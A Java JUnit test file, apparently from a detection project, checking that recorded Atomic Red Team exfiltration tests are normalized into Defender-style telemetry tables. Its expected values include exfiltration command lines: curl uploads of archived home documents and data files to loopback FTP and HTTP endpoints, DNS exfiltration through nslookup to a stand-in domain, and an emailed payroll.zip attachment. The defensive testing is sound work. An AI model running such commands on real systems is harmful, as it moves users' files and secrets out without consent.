package io.egress.telemetry;

import static io.egress.telemetry.TableRows.get;
import static io.egress.telemetry.TableRows.where;
import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import io.egress.data.Table;
import java.net.URISyntaxException;
import java.nio.file.Path;
import java.time.Instant;
import java.util.List;
import org.junit.jupiter.api.Test;

/**
 * The seed's five Atomic Red Team tests (T1048.003), each recorded as the telemetry its "Expected signal"
 * names, in a different native format, normalized to the Defender rows the detection reads.
 */
class AtomicFixturesTest {
    static Path fixture(String name) {
        try {
            return Path.of(AtomicFixturesTest.class.getResource("/atomic/" + name).toURI());
        } catch (URISyntaxException e) {
            throw new IllegalStateException(e);
        }
    }

    static LoadResult load(String name) {
        LoadResult result = new TelemetryLoader().load(List.of(fixture(name)), LoadOptions.strictMode());
        assertThat(result.stoppedAt()).isEmpty();
        assertThat(result.totalMalformed()).isZero();
        return result;
    }

    private static int only(Table table, String column, Object value) {
        List<Integer> rows = where(table, column, value);
        assertThat(rows).as("rows of %s with %s = %s", table, column, value).hasSize(1);
        return rows.get(0);
    }

    @Test
    void test1FtpWithNativeClientFromWevtutilXmlAndSecurity4688() {
        LoadResult result = load("t1_ftp");
        assertThat(result.files()).extracting(FileReport::format).containsExactly("windows-xml", "windows-xml");
        Table processes = result.tables().get("DeviceProcessEvents");
        assertThat(processes.rowCount()).isEqualTo(2);
        for (int row = 0; row < 2; row++) {
            assertThat(get(processes, row, "FileName")).isEqualTo("ftp.exe");
            assertThat(get(processes, row, "FolderPath")).isEqualTo("C:\\Windows\\System32\\ftp.exe");
            assertThat(get(processes, row, "ProcessCommandLine")).isEqualTo("ftp  -s:C:\\Users\\alice\\AppData\\Local\\Temp\\ftp_script.txt");
            assertThat(get(processes, row, "ProcessId")).isEqualTo(7344L);
            assertThat(get(processes, row, "AccountDomain")).isEqualTo("CORP");
            assertThat(get(processes, row, "AccountName")).isEqualTo("alice");
            assertThat(get(processes, row, "InitiatingProcessFileName")).isEqualTo("cmd.exe");
            assertThat(get(processes, row, "InitiatingProcessId")).isEqualTo(6120L);
            assertThat(get(processes, row, "DeviceName")).isEqualTo("ws01.corp.example");
            assertThat(get(processes, row, "ActionType")).isEqualTo("ProcessCreated");
            assertThat(get(processes, row, "ProcessIntegrityLevel")).isEqualTo("Medium");
            assertThat(get(processes, row, "LogonId")).isEqualTo(0xb2e8cL);
        }
        int sysmon = only(processes, "ReportId", 90212L);
        assertThat(get(processes, sysmon, "InitiatingProcessCommandLine")).isEqualTo("\"C:\\Windows\\system32\\cmd.exe\" /c ftp -s:%TEMP%\\ftp_script.txt");
        assertThat(get(processes, sysmon, "SHA256")).isEqualTo("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08");
        assertThat(get(processes, sysmon, "Timestamp")).isEqualTo(Instant.parse("2026-11-28T09:15:02.239Z"));
        assertThat(get(processes, sysmon, "ProcessVersionInfoOriginalFileName")).isEqualTo("ftp.exe");
        int security = only(processes, "ReportId", 551203L);
        assertThat(get(processes, security, "ProcessTokenElevation")).isEqualTo("TokenElevationTypeLimited");
        assertThat(get(processes, security, "AccountSid")).isEqualTo("S-1-5-21-1004336348-1177238915-682003330-1104");
        assertThat(get(processes, security, "InitiatingProcessAccountName")).isEqualTo("alice");
        assertThat(get(processes, security, "Timestamp")).isEqualTo(Instant.parse("2026-11-28T09:15:02.2398110Z"));

        Table files = result.tables().get("DeviceFileEvents");
        assertThat(files.rowCount()).isEqualTo(1);
        assertThat(get(files, 0, "ActionType")).isEqualTo("FileCreated");
        assertThat(get(files, 0, "FileName")).isEqualTo("ftp_script.txt");
        assertThat(get(files, 0, "FolderPath")).isEqualTo("C:\\Users\\alice\\AppData\\Local\\Temp\\ftp_script.txt");
        assertThat(get(files, 0, "InitiatingProcessFileName")).isEqualTo("cmd.exe");

        Table network = result.tables().get("DeviceNetworkEvents");
        assertThat(network.rowCount()).isEqualTo(1);
        assertThat(get(network, 0, "RemoteIP")).isEqualTo("127.0.0.1");
        assertThat(get(network, 0, "RemotePort")).isEqualTo(21);
        assertThat(get(network, 0, "LocalPort")).isEqualTo(50122);
        assertThat(get(network, 0, "RemoteIPType")).isEqualTo("Loopback");
        assertThat(get(network, 0, "Protocol")).isEqualTo("Tcp");
        assertThat(get(network, 0, "ActionType")).isEqualTo("ConnectionSuccess");
        assertThat(get(network, 0, "RemoteUrl")).isEqualTo("WS01.corp.example");
        assertThat(get(network, 0, "InitiatingProcessFileName")).isEqualTo("ftp.exe");
        assertThat(get(network, 0, "InitiatingProcessCommandLine")).isEqualTo("ftp  -s:C:\\Users\\alice\\AppData\\Local\\Temp\\ftp_script.txt");
        assertThat(get(network, 0, "InitiatingProcessAccountName")).isEqualTo("alice");
        assertThat(result.rows("SysmonEvent")).isEqualTo(3);
        assertThat(result.rows("WindowsEvent")).isEqualTo(1);
    }

    @Test
    void test2CurlHttpUploadFromWinlogbeat() {
        LoadResult result = load("t2_http");
        assertThat(result.files()).extracting(FileReport::format).containsExactly("windows-json");
        Table processes = result.tables().get("DeviceProcessEvents");
        assertThat(processes.rowCount()).isEqualTo(1);
        assertThat(get(processes, 0, "FileName")).isEqualTo("curl.exe");
        assertThat(get(processes, 0, "ProcessCommandLine"))
                .isEqualTo("curl.exe  --upload-file C:\\Users\\bob\\AppData\\Local\\Temp\\exfil_data.txt http://127.0.0.1:8080/upload");
        assertThat(get(processes, 0, "InitiatingProcessFileName")).isEqualTo("powershell.exe");
        assertThat(get(processes, 0, "AccountName")).isEqualTo("bob");
        assertThat(get(processes, 0, "DeviceName")).isEqualTo("ws02.corp.example");
        assertThat(get(processes, 0, "ReportId")).isEqualTo(120881L);
        assertThat(get(processes, 0, "Timestamp")).isEqualTo(Instant.parse("2026-11-28T09:31:40.376Z"));
        Table network = result.tables().get("DeviceNetworkEvents");
        assertThat(network.rowCount()).isEqualTo(1);
        assertThat(get(network, 0, "RemotePort")).isEqualTo(8080);
        assertThat(get(network, 0, "InitiatingProcessFileName")).isEqualTo("curl.exe");
        assertThat(get(network, 0, "InitiatingProcessCommandLine")).isEqualTo(get(processes, 0, "ProcessCommandLine"));
        assertThat(get(network, 0, "InitiatingProcessParentFileName")).isEqualTo("powershell.exe");
    }

    @Test
    void test3NslookupDnsExfilFromEvtxDumpJsonArray() throws Exception {
        LoadResult result = load("t3_dns");
        assertThat(result.files()).extracting(FileReport::format).containsExactly("windows-json");
        Table processes = result.tables().get("DeviceProcessEvents");
        assertThat(processes.rowCount()).isEqualTo(2);
        int nslookup = only(processes, "FileName", "nslookup.exe");
        assertThat((String) get(processes, nslookup, "ProcessCommandLine")).contains("ZXhmaWx0cmF0ZWQtY3JlZGVudGlhbHMtMDAx.exfil-test.example.com");
        assertThat(get(processes, nslookup, "InitiatingProcessFileName")).isEqualTo("powershell.exe");
        assertThat(get(processes, nslookup, "ProcessId")).isEqualTo(2260L);
        int powershell = only(processes, "FileName", "powershell.exe");
        assertThat((String) get(processes, powershell, "ProcessCommandLine")).contains("nslookup ");
        Table events = result.tables().get("DeviceEvents");
        assertThat(events.rowCount()).isEqualTo(1);
        assertThat(get(events, 0, "ActionType")).isEqualTo("DnsQueryResponse");
        assertThat(get(events, 0, "InitiatingProcessFileName")).isEqualTo("nslookup.exe");
        assertThat(get(events, 0, "InitiatingProcessCommandLine")).isEqualTo(get(processes, nslookup, "ProcessCommandLine"));
        JsonNode fields = new ObjectMapper().readTree((String) get(events, 0, "AdditionalFields"));
        assertThat(fields.path("DnsQueryString").asText()).isEqualTo("ZXhmaWx0cmF0ZWQtY3JlZGVudGlhbHMtMDAx.exfil-test.example.com");
        assertThat(fields.path("DnsQueryResult").isArray()).isTrue();
        assertThat(fields.path("DnsQueryStatus").asText()).isEqualTo("9003");
    }

    @Test
    void test4SendMailMessageFromFlatNxlogJson() throws Exception {
        LoadResult result = load("t4_smtp");
        Table processes = result.tables().get("DeviceProcessEvents");
        assertThat(processes.rowCount()).isEqualTo(1);
        assertThat(get(processes, 0, "FileName")).isEqualTo("powershell.exe");
        assertThat((String) get(processes, 0, "ProcessCommandLine")).contains("Send-MailMessage", "-SmtpServer", "-Attachments");
        assertThat(get(processes, 0, "ProcessIntegrityLevel")).isEqualTo("High");
        assertThat(get(processes, 0, "Timestamp")).isEqualTo(Instant.parse("2026-11-28T11:20:05.801Z"));
        Table events = result.tables().get("DeviceEvents");
        assertThat(events.rowCount()).isEqualTo(1);
        assertThat(get(events, 0, "ActionType")).isEqualTo("PowerShellCommand");
        assertThat(get(events, 0, "InitiatingProcessFileName")).isEqualTo("powershell.exe");
        assertThat(get(events, 0, "InitiatingProcessId")).isEqualTo(7904L);
        assertThat(get(events, 0, "InitiatingProcessCommandLine")).isEqualTo(get(processes, 0, "ProcessCommandLine"));
        assertThat(get(events, 0, "InitiatingProcessAccountName")).isEqualTo("dave");
        JsonNode fields = new ObjectMapper().readTree((String) get(events, 0, "AdditionalFields"));
        assertThat(fields.path("Command").asText()).contains("Send-MailMessage", "payroll.zip");
        Table network = result.tables().get("DeviceNetworkEvents");
        assertThat(network.rowCount()).isEqualTo(1);
        assertThat(get(network, 0, "RemotePort")).isEqualTo(25);
        assertThat(get(network, 0, "RemoteUrl")).isEqualTo("");
        assertThat(get(network, 0, "InitiatingProcessFileName")).isEqualTo("powershell.exe");
    }

    @Test
    void test5TarThenCurlFtpUploadFromEnrichedAuditdAndSysmonForLinux() {
        LoadResult result = load("t5_linux_ftp");
        assertThat(result.files()).extracting(FileReport::format).containsExactly("auditd", "syslog");
        assertThat(result.files().get(0).records()).isEqualTo(5);
        Table processes = result.tables().get("DeviceProcessEvents");
        assertThat(processes.rowCount()).isEqualTo(5); // auditd sh, tar, curl + Sysmon for Linux tar, curl

        int shell = only(processes, "FileName", "dash");
        assertThat(get(processes, shell, "ProcessCommandLine")).isEqualTo("sh -c tar -czf /tmp/T1048.003/exfil.tar.gz /home/erin/documents"
                + " && curl --upload-file /tmp/T1048.003/exfil.tar.gz ftp://127.0.0.1/exfil.tar.gz");
        List<Integer> curls = where(processes, "FileName", "curl");
        assertThat(curls).hasSize(2);
        for (int row : curls) {
            assertThat(get(processes, row, "ProcessCommandLine")).isEqualTo("curl --upload-file /tmp/T1048.003/exfil.tar.gz ftp://127.0.0.1/exfil.tar.gz");
            assertThat(get(processes, row, "FolderPath")).isEqualTo("/usr/bin/curl");
            assertThat(get(processes, row, "ProcessId")).isEqualTo(30102L);
            assertThat(get(processes, row, "InitiatingProcessId")).isEqualTo(30100L);
            assertThat(get(processes, row, "InitiatingProcessFileName")).isEqualTo("dash");
            assertThat(get(processes, row, "AccountName")).isEqualTo("erin");
        }
        int auditCurl = where(processes, row -> "curl".equals(get(processes, row, "FileName"))
                && Long.valueOf(8804).equals(get(processes, row, "ReportId"))).get(0);
        assertThat((String) get(processes, auditCurl, "InitiatingProcessCommandLine")).startsWith("sh -c tar -czf");
        assertThat(get(processes, auditCurl, "Timestamp")).isEqualTo(Instant.parse("2026-11-28T12:40:05.402Z"));
        assertThat(where(processes, "FileName", "tar")).hasSize(2);

        Table network = result.tables().get("DeviceNetworkEvents");
        assertThat(network.rowCount()).isEqualTo(2);
        for (int row = 0; row < 2; row++) {
            assertThat(get(network, row, "RemoteIP")).isEqualTo("127.0.0.1");
            assertThat(get(network, row, "RemotePort")).isEqualTo(21);
            assertThat(get(network, row, "InitiatingProcessFileName")).isEqualTo("curl");
            assertThat(get(network, row, "InitiatingProcessCommandLine")).isEqualTo("curl --upload-file /tmp/T1048.003/exfil.tar.gz ftp://127.0.0.1/exfil.tar.gz");
        }
        assertThat(get(network, only(network, "ReportId", 8805L), "ActionType")).isEqualTo("ConnectionFailed");
        Table files = result.tables().get("DeviceFileEvents");
        assertThat(files.rowCount()).isEqualTo(1);
        assertThat(get(files, 0, "FolderPath")).isEqualTo("/tmp/T1048.003/exfil.tar.gz");
        assertThat(get(files, 0, "DeviceName")).isEqualTo("lnx01");
        assertThat(result.rows("AuditdEvent")).isEqualTo(5);
        assertThat(result.rows("SysmonEvent")).isEqualTo(4);
    }
}
